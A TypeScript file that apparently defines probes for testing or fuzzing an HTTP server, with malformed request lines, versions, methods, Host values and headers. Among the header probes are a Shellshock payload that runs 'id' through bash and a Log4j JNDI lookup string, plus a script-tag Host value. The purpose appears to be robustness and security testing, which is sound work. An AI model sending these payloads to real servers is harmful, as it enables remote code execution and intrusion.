// Probe grammar: request lines, versions, methods, hosts and headers.
import type { Draw } from '../draw.ts'
import type { Probe } from '../oracle.ts'
import { each, eachDrawn, get, request, rows } from './write.ts'

export function lineProbes(draw: Draw): Probe[] {
  const word = draw.word()
  return rows('request line', {
    valid: get('/'),
    'drawn path *': get(`/${word}`),
    'one blank line before': `\r\n${get(`/${word}`)}`,
    'ten blank lines before': `${'\r\n'.repeat(10)}${get('/')}`,
    'eleven blank lines before': `${'\r\n'.repeat(11)}${get('/')}`,
    'bare LF before': `\n${get('/')}`,
    'blank before': ` ${get('/')}`,
    'bare LF at the end': 'GET / HTTP/1.1\nHost: h\r\n\r\n',
    'bare LF everywhere': 'GET / HTTP/1.1\nHost: h\n\n',
    'CR inside': 'GET /\r HTTP/1.1\r\nHost: h\r\n\r\n',
    tabs: request('GET\t/\tHTTP/1.1'),
    'two blanks': request('GET  /  HTTP/1.1'),
    'blank at the end': request('GET / HTTP/1.1 '),
    'a word too many *': request(`GET / ${word} HTTP/1.1`),
    'no target': request('GET HTTP/1.1'),
    'method only': 'GET\r\n\r\n',
    'one drawn word *': `${word}\r\n\r\n`,
    'drawn word and number *': `${word.toUpperCase()} ${draw.number(1, 9999)}\r\n\r\n`,
    'NUL bytes': '\0\0\0\r\n\r\n',
    'TLS hello': `\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03${'\0'.repeat(150)}`,
    'SSH greeting': 'SSH-2.0-OpenSSH_9.2p1\r\n',
    'SMB hello': '\0\0\0\x2f\xffSMBr\0\0\0\0\x18\x01\x28\0\r\n',
    'HTTP/2 preface': 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
    'proxy protocol': `PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n${get('/')}`,
    'in pieces *': ['GE', `T /${word} HT`, 'TP/1.1\r\nHo', 'st: h\r\n', '\r\n'],
    '8,000 bytes *': get(`/?${word}${'a'.repeat(8000 - word.length)}`),
    'longest line nginx takes': request(`GET /?${'a'.repeat(8175)} HTTP/1.1`),
    'longer by one': request(`GET /?${'a'.repeat(8176)} HTTP/1.1`),
    'longer by two': request(`GET /?${'a'.repeat(8177)} HTTP/1.1`),
    '20,000 bytes': request(`GET /?${'a'.repeat(20_000)} HTTP/1.1`),
    'incomplete 9,000 bytes': `GET /?${'a'.repeat(9000)}`,
  })
}

export function versionProbes(draw: Draw): Probe[] {
  const word = draw.word()
  const versions =
    'HTTP/1.0 HTTP/1.2 HTTP/1.10 HTTP/1.99 HTTP/1.1000 HTTP/1.01 HTTP/2.0 HTTP/2 HTTP/3.0 HTTP/9.9 HTTP/10.0 HTTP/0.9 HTTP/1 HTTP/1. HTTP/.1 http/1.1 HTTP/01.1 HTTP/A.B HTP/1.1 HTTPS/1.1 HTTP/1.1x RTSP/1.0 HTTP/1337 HTTP/ HTT'
  return rows('versions', {
    ...each('GET / with', versions.split(' '), (version) => request(`GET / ${version}`)),
    'drawn major *': request(`GET / HTTP/${draw.number(2, 9)}.${draw.number(0, 9)}`),
    'drawn minor *': request(`GET /${word} HTTP/1.${draw.number(2, 9)}`),
    'drawn long number *': request(`GET / HTTP/${draw.number(100, 9999)}`),
    'drawn letters *': request(`GET / ${word.toUpperCase()}/1.1`),
    '0.9': 'GET /\r\n',
    '0.9 bare LF': 'GET /\n',
    '0.9 blank at the end': 'GET / \r\n',
    '0.9 drawn missing path *': `GET /${word}\r\n`,
    '0.9 above the root': 'GET /../\r\n',
    '0.9 POST': 'POST /\r\n',
    '0.9 HEAD': 'HEAD /\r\n',
    '0.9 unknown method': 'FOO /\r\n',
    '0.9 no slash *': `GET ${word}\r\n`,
    '0.9 absolute *': `GET http://${word}/\r\n`,
    '1.0 without Host': 'GET / HTTP/1.0\r\n\r\n',
    '1.0 missing *': `GET /${word} HTTP/1.0\r\n\r\n`,
    '1.1 without Host': 'GET / HTTP/1.1\r\n\r\n',
    '1.1 without Host, missing *': `GET /${word} HTTP/1.1\r\n\r\n`,
  })
}

export function methodProbes(draw: Draw): Probe[] {
  const word = draw.word()
  const methods =
    'HEAD POST PUT DELETE OPTIONS TRACE PATCH PROPFIND MKCOL MOVE COPY LOCK REPORT LABEL BASELINE-CONTROL SEARCH TRACK DEBUG PURGE M-SEARCH ACL get Get GET1 GE_T GE-T G@T G(T INVALID"<>'
  return rows('methods', {
    ...eachDrawn('/ with', methods.split(' '), (method) => request(`${method} / HTTP/1.1`, [`Host: ${draw.word()}.example`])),
    ...each('missing with', ['HEAD', 'POST', 'PUT', 'DELETE', 'OPTIONS', 'PROPFIND', 'FOO', 'TRACE'], (method) =>
      request(`${method} /nothing-here HTTP/1.1`),
    ),
    'drawn method *': request(`${draw.word(3, 12).toUpperCase()} / HTTP/1.1`),
    'drawn method on drawn path *': request(`${draw.word(3, 12).toUpperCase()} /${word} HTTP/1.1`),
    'drawn lower case *': request(`${word} / HTTP/1.1`),
    'very long *': request(`${'Q'.repeat(draw.number(200, 600))} / HTTP/1.1`),
    'CONNECT *': request(`CONNECT ${word}:${draw.number(1, 65_535)} HTTP/1.1`),
    'CONNECT without port': request('CONNECT h HTTP/1.1'),
    'CONNECT with letters for a port': request('CONNECT h:x HTTP/1.1'),
    'CONNECT 1.0 *': `CONNECT ${word}:443 HTTP/1.0\r\n\r\n`,
    'CONNECT a path': request('CONNECT / HTTP/1.1'),
    'OPTIONS *': request('OPTIONS * HTTP/1.1'),
    'GET an asterisk': request('GET * HTTP/1.1'),
    'PUT with a body *': request(`PUT /${word}.txt HTTP/1.1`, ['Host: h', `Content-Length: ${word.length}`], word),
  })
}

export function hostProbes(draw: Draw): Probe[] {
  const word = draw.word()
  const hosts =
    '|h|h:80|h:|h:abc|h:99999|h:0|h:080|H.EXAMPLE|h.|h..x|.h|h x|h_x|a/b|a@b|127.0.0.1|1.2.3|01.2.3.4|256.1.1.1|[::1]|[::1]:80|[::1|[x]|[FE80::1]|::1|h?x|h#|h%41|h\x01|h\xff|h\'|h"|h<script>|h,x|h;x|h\tx|  h  |*|-h|h\\x|h:80:80|h:-1|h.1|1h.2|1.2.3.4h|1-2|10.0.0.h|h-|h..|h: 80|h=1|h!x|h$x'
  // Where the host shows: in the page of a path that is missing, and in a redirect.
  const values = hosts.split('|')
  return rows('host', {
    ...each('Host', values, (host) => request('GET /nothing-here HTTP/1.1', [`Host: ${host}`])),
    'drawn *': request('GET /nothing-here HTTP/1.1', [`Host: ${word}.example`]),
    'drawn with a port *': request('GET /nothing-here HTTP/1.1', [`Host: ${word}:${draw.number(1, 65_535)}`]),
    'drawn address *': request('GET /nothing-here HTTP/1.1', [
      `Host: 10.${draw.number(0, 255)}.${draw.number(0, 255)}.${draw.number(1, 254)}`,
    ]),
    'drawn refused with a port *': request('GET / HTTP/1.1', [`Host: ${word}@x:${draw.number(1, 65_535)}`]),
    twice: request('GET / HTTP/1.1', ['Host: h', 'Host: h']),
    'twice, differing *': request('GET / HTTP/1.1', ['Host: h', `Host: ${word}`]),
    'very long *': request('GET /nothing-here HTTP/1.1', [`Host: ${word.repeat(30)}`]),
    'empty in 1.0': request('GET /nothing-here HTTP/1.0', ['Host:']),
    'refused in 1.0': request('GET / HTTP/1.0', ['Host: a/b']),
    'absolute URI *': request(`GET http://${word}/${word} HTTP/1.1`),
    'absolute URI with a port *': request(`GET http://${word}:${draw.number(1, 65_535)}/x HTTP/1.1`),
    'absolute URI, no Host *': `GET http://${word}/ HTTP/1.1\r\n\r\n`,
    'absolute URI, refused Host *': request(`GET http://${word}/x HTTP/1.1`, ['Host: a/b']),
    ...each(
      'absolute',
      [
        'http://o',
        'http:///x',
        'HTTP://O/x',
        'https://o/x',
        'ftp://o/x',
        'foo://o/x',
        'http://o_o/x',
        'http://[::1]/x',
        'http:/x',
        'http://u:p@o/x',
        'http://o?x',
        'http://o x/',
        'http://o/#f',
        'http:o',
        'mailto:a@b',
      ],
      (uri) => request(`GET ${uri} HTTP/1.1`),
    ),
  })
}

export function headerProbes(draw: Draw): Probe[] {
  const [name, value] = [draw.word(), draw.word()]
  const lines =
    'Foo|Foo : x|: x|:|Foo:|Foo:x|foo_bar: x|foo.bar: x|fo@o: x|fo(o: x|f\x01o: x|Foo: \x01x|Foo: a\0x|Foo: a\x7fx|Foo: \xffx|F\xffo: x|Foo: a\r\n b| b: c|Foo: a\r\n\tb|Fo o: b|Foo: a\rb|Foo: a\nBar: b|"foo": x|a;b: c|a/b: c|a{b: c|123: c|Foo: a\r\n \r\nBar: x'
  const many = (count: number) => Array.from({ length: count }, () => 'A: b')
  return rows('headers', {
    ...each('line', lines.split('|'), (line) => get('/', line)),
    'drawn *': get('/', `${name}: ${value}`),
    'drawn underscore *': get('/', `${name}_${value}: ${value}`),
    'drawn with blanks *': get('/', `${name}:  \t ${value}  `),
    'shellshock *': get(`/cgi-bin/${name}`, 'User-Agent: () { :;}; /bin/bash -c "id"'),
    'log4j *': get('/nothing-here', `X-Api-Version: \${jndi:ldap://${value}/a}`),
    'value of 8,180 bytes': get('/', `A: ${'b'.repeat(8180)}`),
    'value of 8,187 bytes': get('/', `A: ${'b'.repeat(8187)}`),
    'value of 8,189 bytes': get('/', `A: ${'b'.repeat(8189)}`),
    'value of 9,000 bytes': get('/', `A: ${'b'.repeat(9000)}`),
    'incomplete value of 9,000 bytes': `GET / HTTP/1.1\r\nHost: h\r\nA: ${'b'.repeat(9000)}`,
    'four of 7,000': get('/', ...Array.from({ length: 4 }, (_, index) => `A${index}: ${'b'.repeat(7000)}`)),
    'five of 7,000': get('/', ...Array.from({ length: 5 }, (_, index) => `A${index}: ${'b'.repeat(7000)}`)),
    'twenty of 3,000 of one name': get('/', ...Array.from({ length: 20 }, () => `A: ${'b'.repeat(3000)}`)),
    '99 more': get('/', ...many(99)),
    '100 more': get('/', ...many(100)),
    '999 more': get('/', ...many(999)),
    '1,000 more': get('/', ...many(1000)),
    'drawn number of drawn headers *': get(
      '/',
      ...Array.from({ length: draw.number(5, 60) }, (_, index) => `X-${name}-${index}: ${value}`),
    ),
    ...each(
      'twice',
      [
        'Authorization: a',
        'If-Modified-Since: a',
        'If-Match: "a"',
        'Referer: a',
        'Upgrade: a',
        'Cookie: a=b',
        'User-Agent: a',
        'Content-Type: a/b',
        'Range: bytes=0-1',
      ],
      (line) => get('/', line, line),
    ),
    websocket: get(
      '/',
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
      'Sec-WebSocket-Version: 13',
    ),
    h2c: get('/', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA'),
    'bad line, then silence': 'GET / HTTP/1.1\r\nFoo : x\r\n',
    'good line, then silence *': `GET / HTTP/1.1\r\n${name}: ${value}\r\n`,
  })
}
